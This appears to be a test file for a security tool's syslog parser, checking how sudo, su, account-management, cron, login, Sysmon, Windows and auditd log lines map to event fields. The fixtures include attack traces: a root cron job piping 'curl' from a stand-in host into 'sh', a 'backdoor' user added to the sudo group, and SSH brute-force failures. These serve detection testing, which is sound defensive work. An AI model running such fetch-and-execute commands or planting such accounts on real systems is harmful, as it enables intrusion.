import { describe, expect, it } from 'vitest';
import { MAX_REPEAT } from '../../../../src/threats/parsers/syslog/message-events.ts';
import { syslog, syslogEvent } from '../helpers.ts';

const at = (program: string, message: string): string => `Mar  3 10:00:00 web-01 ${program}: ${message}`;

function fields(line: string, expected: Record<string, unknown>): void {
  const ev = syslogEvent(line);
  for (const [field, value] of Object.entries(expected)) expect(ev[field], field).toEqual(value);
}

describe('sudo', () => {
  it.each([
    [
      '   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id -u',
      {
        'event.action': 'sudo_command',
        'event.outcome': 'success',
        'user.name': 'alice',
        'sudo.tty': 'pts/0',
        'process.working_directory': '/home/alice',
        'user.target.name': 'root',
        'process.command_line': '/usr/bin/id -u',
      },
    ],
    [
      'alice : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/bash',
      {
        'event.outcome': 'failure',
        'event.reason': '3 incorrect password attempts',
        'event.category': ['authentication', 'process'],
        'process.command_line': '/bin/bash',
      },
    ],
    [
      'bob : user NOT in sudoers ; TTY=pts/2 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh',
      { 'event.outcome': 'failure', 'event.reason': 'user NOT in sudoers', 'event.category': ['process'] },
    ],
    // The Log Analytics Syslog table prints the separators as runs of spaces.
    [
      'omsagent : TTY=unknown   PWD=/   USER=root   COMMAND=/opt/ruby a b',
      {
        'sudo.tty': 'unknown',
        'process.working_directory': '/',
        'user.target.name': 'root',
        'process.command_line': '/opt/ruby a b',
      },
    ],
    // A directory with spaces, and a command that itself holds KEY= text.
    [
      'carol : TTY=pts/3 ; PWD=/srv/my files ; USER=www-data ; GROUP=www ; COMMAND=/usr/bin/env USER=x TTY=y',
      {
        'process.working_directory': '/srv/my files',
        'group.name': 'www',
        'user.target.name': 'www-data',
        'process.command_line': '/usr/bin/env USER=x TTY=y',
      },
    ],
    [
      'pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)',
      { 'event.action': 'session_opened', 'user.name': 'root', 'pam.by': 'alice', 'pam.service': 'sudo' },
    ],
    [
      'pam_unix(sudo:auth): authentication failure; logname=alice uid=1000 euid=0 tty=/dev/pts/0 ruser=alice rhost=  user=alice',
      { 'event.action': 'pam_auth_failure', 'user.name': 'alice', 'source.ip': undefined },
    ],
    ['alice : a message without the command', { 'event.action': undefined }],
  ])('%s', (message, expected) => {
    fields(at('sudo', message), { 'event.dataset': 'linux.auth', 'process.name': 'sudo', ...expected });
  });
});

describe('su', () => {
  it.each([
    [
      'Successful su for root by alice',
      { 'event.action': 'su', 'event.outcome': 'success', 'user.name': 'alice', 'user.target.name': 'root' },
    ],
    [
      'FAILED su for root by mallory',
      { 'event.outcome': 'failure', 'user.name': 'mallory', 'user.target.name': 'root' },
    ],
    [
      '+ pts/0 alice:root',
      { 'event.outcome': 'success', 'user.name': 'alice', 'user.target.name': 'root', 'sudo.tty': 'pts/0' },
    ],
    ['- pts/0 mallory:root', { 'event.outcome': 'failure', 'user.name': 'mallory' }],
    [
      '(to root) alice on pts/4',
      { 'event.outcome': 'success', 'user.name': 'alice', 'user.target.name': 'root' },
    ],
    [
      'FAILED SU (to root) mallory on pts/4',
      { 'event.outcome': 'failure', 'user.name': 'mallory', 'user.target.name': 'root' },
    ],
    [
      'pam_unix(su:session): session opened for user root by alice(uid=1000)',
      { 'event.action': 'session_opened', 'user.name': 'root', 'pam.by': 'alice' },
    ],
  ])('%s', (message, expected) => {
    fields(at('su[77]', message), {
      'event.dataset': 'linux.auth',
      'process.name': 'su',
      'process.pid': 77,
      ...expected,
    });
  });

  it('reads 2005-era su(pam_unix) lines', () => {
    fields('Jun 15 04:06:18 combo su(pam_unix)[21416]: session opened for user cyrus by (uid=0)', {
      'process.name': 'su',
      'pam.module': 'pam_unix',
      'pam.service': 'su',
      'event.action': 'session_opened',
      'user.name': 'cyrus',
    });
  });
});

describe('account management', () => {
  it.each([
    [
      'useradd[90]',
      'new user: name=backdoor, UID=1001, GID=1001, home=/home/backdoor, shell=/bin/bash, from=/dev/pts/0',
      {
        'event.action': 'user_created',
        'event.type': ['user', 'creation'],
        'user.target.name': 'backdoor',
        'user.target.id': '1001',
        'account.shell': '/bin/bash',
        'account.home': '/home/backdoor',
      },
    ],
    [
      'useradd[90]',
      'new group: name=backdoor, GID=1001',
      { 'event.action': 'group_created', 'group.name': 'backdoor', 'group.id': '1001' },
    ],
    [
      'groupadd[91]',
      'group added to /etc/group: name=devs, GID=1002',
      { 'event.action': 'group_created', 'group.name': 'devs' },
    ],
    [
      'usermod[92]',
      "add 'backdoor' to group 'sudo'",
      { 'event.action': 'user_added_to_group', 'user.target.name': 'backdoor', 'group.name': 'sudo' },
    ],
    [
      'usermod[92]',
      "add 'backdoor' to shadow group 'sudo'",
      { 'event.action': 'user_added_to_group', 'group.name': 'sudo' },
    ],
    [
      'usermod[93]',
      "change user 'bob' shell from '/bin/sh' to '/bin/bash'",
      { 'event.action': 'user_modified', 'user.target.name': 'bob' },
    ],
    [
      'usermod[93]',
      "lock user 'bob' password",
      { 'event.action': 'user_modified', 'user.target.name': 'bob' },
    ],
    ['userdel[94]', "delete user 'bob'", { 'event.action': 'user_deleted', 'user.target.name': 'bob' }],
    [
      'userdel[94]',
      "removed group 'bob' owned by 'bob'",
      { 'event.action': 'group_deleted', 'group.name': 'bob' },
    ],
    [
      'userdel[94]',
      "delete 'bob' from group 'sudo'",
      { 'event.action': 'user_removed_from_group', 'user.target.name': 'bob', 'group.name': 'sudo' },
    ],
    [
      'groupdel[95]',
      "group 'devs' removed from /etc/group",
      { 'event.action': 'group_deleted', 'group.name': 'devs' },
    ],
    [
      'gpasswd[96]',
      'user bob added by root to group sudo',
      {
        'event.action': 'user_added_to_group',
        'user.target.name': 'bob',
        'user.name': 'root',
        'group.name': 'sudo',
      },
    ],
    [
      'gpasswd[96]',
      'user bob removed by root from group sudo',
      {
        'event.action': 'user_removed_from_group',
        'user.target.name': 'bob',
        'user.name': 'root',
        'group.name': 'sudo',
      },
    ],
    [
      'gpasswd[96]',
      'members of group sudo set by root to alice,bob',
      {
        'event.action': 'group_modified',
        'group.name': 'sudo',
        'user.name': 'root',
        'group.members': 'alice,bob',
      },
    ],
    [
      'passwd[97]',
      'pam_unix(passwd:chauthtok): password changed for bob',
      { 'event.action': 'password_changed', 'user.target.name': 'bob' },
    ],
    [
      'passwd[97]',
      "password for 'bob' changed by 'root'",
      { 'event.action': 'password_changed', 'user.target.name': 'bob', 'user.name': 'root' },
    ],
    [
      'chage[98]',
      'changed password expiry for bob',
      { 'event.action': 'user_modified', 'user.target.name': 'bob' },
    ],
    [
      'useradd[99]',
      "failed adding user 'bob', data deleted",
      { 'event.action': 'user_created', 'event.outcome': 'failure', 'user.target.name': 'bob' },
    ],
  ])('%s: %s', (program, message, expected) => {
    fields(at(program, message), { 'event.dataset': 'linux.auth', 'event.category': ['iam'], ...expected });
  });
});

describe('cron', () => {
  it.each([
    [
      'CRON[1234]',
      '(root) CMD (curl -s http://x.example/m.sh | sh)',
      {
        'event.action': 'cron_command',
        'user.name': 'root',
        'process.command_line': 'curl -s http://x.example/m.sh | sh',
        'process.name': 'CRON',
        'cron.operation': 'CMD',
      },
    ],
    [
      '/usr/sbin/cron[88]',
      '(www-data) CMD (php /var/www/cron.php)',
      { 'event.action': 'cron_command', 'process.name': 'cron', 'process.executable': '/usr/sbin/cron' },
    ],
    [
      'crond[5]',
      '(root) CMD (run-parts /etc/cron.hourly)',
      { 'event.action': 'cron_command', 'process.command_line': 'run-parts /etc/cron.hourly' },
    ],
    // cronie (RHEL, Fedora, Amazon Linux) runs each job from a child that logs as CROND.
    [
      'CROND[4711]',
      '(root) CMD (run-parts /etc/cron.hourly)',
      { 'event.action': 'cron_command', 'process.name': 'CROND', 'user.name': 'root' },
    ],
    [
      'crontab[12]',
      '(mallory) REPLACE (mallory)',
      {
        'event.action': 'crontab_modified',
        'user.name': 'mallory',
        'user.target.name': 'mallory',
        'event.type': ['change'],
      },
    ],
    [
      'crontab[12]',
      '(root) DELETE (bob)',
      { 'event.action': 'crontab_modified', 'user.target.name': 'bob', 'event.type': ['deletion'] },
    ],
    [
      'cron[1]',
      '(*system*) RELOAD (/etc/crontab)',
      { 'event.action': 'crontab_reloaded', 'user.name': undefined, 'file.path': '/etc/crontab' },
    ],
    ['crontab[12]', '(root) LIST (root)', { 'event.action': undefined, 'cron.operation': 'LIST' }],
    [
      'CRON[1234]',
      'pam_unix(cron:session): session closed for user root',
      { 'event.action': 'session_closed', 'event.dataset': 'linux.auth' },
    ],
  ])('%s: %s', (program, message, expected) => {
    fields(at(program, message), { 'event.dataset': 'linux.syslog', ...expected });
  });
});

describe('login and other programs', () => {
  it.each([
    [
      'login[7]',
      'ROOT LOGIN ON tty2',
      { 'event.action': 'login', 'event.outcome': 'success', 'user.name': 'root' },
    ],
    [
      'login[7]',
      "FAILED LOGIN (1) ON '/dev/tty1' FOR 'admin', Authentication failure",
      {
        'event.action': 'login',
        'event.outcome': 'failure',
        'user.name': 'admin',
        'event.reason': 'Authentication failure',
      },
    ],
    [
      'sshd(pam_unix)[19939]',
      'authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost=218.188.2.4 ',
      {
        'event.action': 'pam_auth_failure',
        'process.name': 'sshd',
        'pam.module': 'pam_unix',
        'source.ip': '218.188.2.4',
      },
    ],
    [
      'sshd(pam_unix)[20882]',
      'authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost=220-135-151-1.hinet-ip.hinet.net  user=root',
      { 'user.name': 'root', 'source.domain': '220-135-151-1.hinet-ip.hinet.net' },
    ],
  ])('%s: %s', (program, message, expected) => {
    fields(at(program, message), { 'event.dataset': 'linux.auth', ...expected });
  });

  it('makes an event of any program it has no parser for', () => {
    fields(at('kernel', 'Out of memory: Killed process 4242 (xmrig)'), {
      'event.dataset': 'linux.syslog',
      'process.name': 'kernel',
      message: 'Out of memory: Killed process 4242 (xmrig)',
      'event.action': undefined,
    });
    fields('Jul  7 08:06:15 combo  -- root[2421]: ROOT LOGIN ON tty2', {
      'event.dataset': 'linux.syslog',
      'process.name': undefined,
      'host.name': 'combo',
    });
  });
});

describe('message repeated N times', () => {
  it('expands into N events, each the inner message', () => {
    const { events } = syslog(
      'Dec 10 07:13:56 LabSZ sshd[24227]: message repeated 5 times: [ Failed password for root from 5.36.59.76 port 42393 ssh2]',
    );
    expect(events).toHaveLength(5);
    for (const ev of events) {
      expect(ev).toMatchObject({
        'event.action': 'ssh_login',
        'event.outcome': 'failure',
        'source.ip': '5.36.59.76',
        'log.syslog.repeated': 5,
        'log.file.line': 1,
        message: 'Failed password for root from 5.36.59.76 port 42393 ssh2',
      });
    }
    expect(new Set(events).size).toBe(5);
  });

  it(`stops at ${MAX_REPEAT} for a forged count`, () => {
    const { events } = syslog(
      'Dec 10 07:13:56 h sshd[1]: message repeated 999999999 times: [ Failed password for root from 192.0.2.1 port 1 ssh2]',
    );
    expect(events).toHaveLength(MAX_REPEAT);
    expect(events[0]!['log.syslog.repeated']).toBe(999999999);
  });

  it('keeps a malformed repeat line as one plain event', () => {
    expect(syslog('Dec 10 07:13:56 h sshd[1]: message repeated lots of times').events).toHaveLength(1);
  });
});

describe('other events carried by syslog', () => {
  it('reads Sysmon for Linux XML logged by the sysmon program', () => {
    const xml =
      '<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><TimeCreated SystemTime="2024-03-03T10:00:00.000000000Z"/><Computer>web-01</Computer></System><EventData><Data Name="UtcTime">2024-03-03 10:00:00.123</Data><Data Name="ProcessId">42</Data><Data Name="Image">/usr/bin/curl</Data><Data Name="CommandLine">curl http://x</Data><Data Name="User">www-data</Data><Data Name="ParentImage">/usr/sbin/apache2</Data></EventData></Event>';
    fields(at('sysmon', xml), {
      'event.dataset': 'linux.sysmon',
      'event.action': 'process_created',
      '@timestamp': '2024-03-03T10:00:00.123Z',
      'process.parent.name': 'apache2',
      'log.original': at('sysmon', xml),
    });
  });

  it('reads forwarded Windows Security and System XML, and keeps other channels as plain messages', () => {
    const security =
      "<Event><System><Provider Name='Microsoft-Windows-Security-Auditing'/><EventID>4625</EventID><TimeCreated SystemTime='2024-03-03T10:00:00Z'/><Channel>Security</Channel><Computer>w1</Computer></System><EventData><Data Name='TargetUserName'>admin</Data><Data Name='IpAddress'>192.0.2.7</Data></EventData></Event>";
    fields(at('nxlog', security), {
      'event.dataset': 'windows.security',
      'event.action': 'logon',
      'event.outcome': 'failure',
      'source.ip': '192.0.2.7',
      'host.name': 'w1',
    });
    const system =
      "<Event><System><Provider Name='Service Control Manager'/><EventID>7045</EventID><TimeCreated SystemTime='2024-03-03T10:00:00Z'/><Channel>System</Channel></System><EventData><Data Name='ServiceName'>PSEXESVC</Data></EventData></Event>";
    fields(at('nxlog', system), {
      'event.dataset': 'windows.system',
      'event.code': '7045',
      'winlog.event_data.ServiceName': 'PSEXESVC',
    });
    const application =
      "<Event><System><Provider Name='MsiInstaller'/><EventID>11707</EventID><Channel>Application</Channel></System></Event>";
    fields(at('nxlog', application), {
      'event.dataset': 'linux.syslog',
      'process.name': 'nxlog',
      message: application,
      'event.code': undefined,
    });
  });

  it('groups audit records logged through syslog by their serial', () => {
    const { events, unparsed } = syslog(
      at(
        'audispd',
        'node=web-01 type=SYSCALL msg=audit(1709460000.100:7): syscall=59 success=yes pid=5 ppid=1 comm="id" exe="/usr/bin/id" key=(null)',
      ),
      at('audispd', 'node=web-01 type=EXECVE msg=audit(1709460000.100:7): argc=1 a0="id"'),
    );
    expect(unparsed).toEqual([]);
    expect(events).toHaveLength(1);
    expect(events[0]).toMatchObject({
      'event.dataset': 'linux.auditd',
      'event.action': 'process_created',
      'host.name': 'web-01',
      'process.command_line': 'id',
      'log.file.line': 1,
    });
  });

  // rsyslog's imfile forwarding audit.log with `Tag="audit"` (no colon): the tag is read as message text.
  it('reads audit records after a tag written without its colon', () => {
    const { events, unparsed } = syslog(
      'Feb 22 14:25:25 web audit type=SYSCALL msg=audit(1740223525.615:103): syscall=257 success=yes pid=4617 comm="mcedit" exe="/usr/bin/mc" key="nginx_configs"',
      'Feb 22 14:25:25 web audit type=PATH msg=audit(1740223525.615:103): item=0 name="/etc/nginx/nginx.conf" nametype=NORMAL',
      'Feb 22 14:25:26 web audit type: not a record',
    );
    expect(unparsed).toEqual([]);
    expect(events.map((e) => [e['event.dataset'], e['auditd.key'], e['file.path'], e.message])).toEqual([
      ['linux.syslog', undefined, undefined, 'audit type: not a record'],
      ['linux.auditd', 'nginx_configs', '/etc/nginx/nginx.conf', undefined],
    ]);
  });

  // The same USER_LOGIN record as journalctl prints it (journald's audit transport: no stamp, the line's time)
  // and as the kernel prints it when no auditd takes it (type by number, after dmesg's uptime or not).
  const BODY = `pid=4242 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=203.0.113.9 terminal=ssh res=failed'`;
  it.each([
    [
      'journald text: audit[pid]: TYPE fields',
      `May  1 10:00:07 web-01 audit[4242]: USER_LOGIN ${BODY}`,
      {
        '@timestamp': '2024-05-01T10:00:07.000Z',
        'auditd.types': ['USER_LOGIN'],
        'auditd.serial': undefined,
      },
    ],
    [
      'the kernel printing a record: audit: type=NNNN audit(time:serial)',
      `May  1 10:00:07 web-01 kernel: audit: type=1112 audit(1714557607.412:457): ${BODY}`,
      { '@timestamp': '2024-05-01T10:00:07.412Z', 'auditd.types': ['USER_LOGIN'], 'auditd.serial': 457 },
    ],
    [
      "the kernel's line with printk's uptime",
      `May  1 10:00:07 web-01 kernel: [ 1234.567890] audit: type=1112 audit(1714557607.412:457): ${BODY}`,
      { '@timestamp': '2024-05-01T10:00:07.412Z', 'auditd.types': ['USER_LOGIN'], 'auditd.serial': 457 },
    ],
  ])('reads %s as an audit event', (_name, line, expected) => {
    fields(line, {
      'event.dataset': 'linux.auditd',
      'event.action': 'login',
      'event.outcome': 'failure',
      'process.executable': '/usr/sbin/sshd',
      'source.ip': '203.0.113.9',
      'user.name': 'root',
      'host.name': 'web-01',
      'log.original': line,
      ...expected,
    });
  });

  it("groups the kernel's records of one event and names unknown types as ausearch does", () => {
    const { events, unparsed } = syslog(
      'May  1 10:00:07 web-01 kernel: audit: type=1300 audit(1714557607.100:9): arch=c000003e syscall=59 success=yes exit=0 pid=5 ppid=1 uid=0 comm="id" exe="/usr/bin/id"',
      'May  1 10:00:07 web-01 kernel: audit: type=1309 audit(1714557607.100:9): argc=1 a0="id"',
      'May  1 10:00:07 web-01 kernel: audit: type=1999 audit(1714557607.200:10): x=1',
    );
    expect(unparsed).toEqual([]);
    expect(events.map((e) => [e['auditd.types'], e['event.action'], e['process.command_line']])).toEqual([
      [['SYSCALL', 'EXECVE'], 'process_created', 'id'],
      [['UNKNOWN[1999]'], 'unknown[1999]', undefined],
    ]);
  });

  it.each([
    [
      'a kernel line that is not an audit record',
      'May  1 10:00:07 web-01 kernel: [ 1.5] audit: initializing netlink',
    ],
    ['an audit line in prose', 'May  1 10:00:07 web-01 audit[1]: Started by systemd'],
    ['a lower-case word first', 'May  1 10:00:07 web-01 audit[1]: backlog=64 rate=0'],
  ])('keeps %s a syslog event', (_name, line) => {
    fields(line, { 'event.dataset': 'linux.syslog', 'auditd.types': undefined });
  });

  it("gives audit records of a central syslog file their own line's host", () => {
    const login = (host: string, serial: number) =>
      `May  1 10:00:0${serial} ${host} audisp-syslog: type=USER_LOGIN msg=audit(1714557600.${serial}00:${serial}): pid=${serial} uid=0 auid=4294967295 ses=4294967295 msg='op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=203.0.113.9 terminal=ssh res=failed'`;
    const { events, unparsed } = syslog(login('web-01', 1), login('db-01', 2));
    expect(unparsed).toEqual([]);
    expect(events.map((e) => [e['event.action'], e['host.name']])).toEqual([
      ['login', 'web-01'],
      ['login', 'db-01'],
    ]);
  });
});
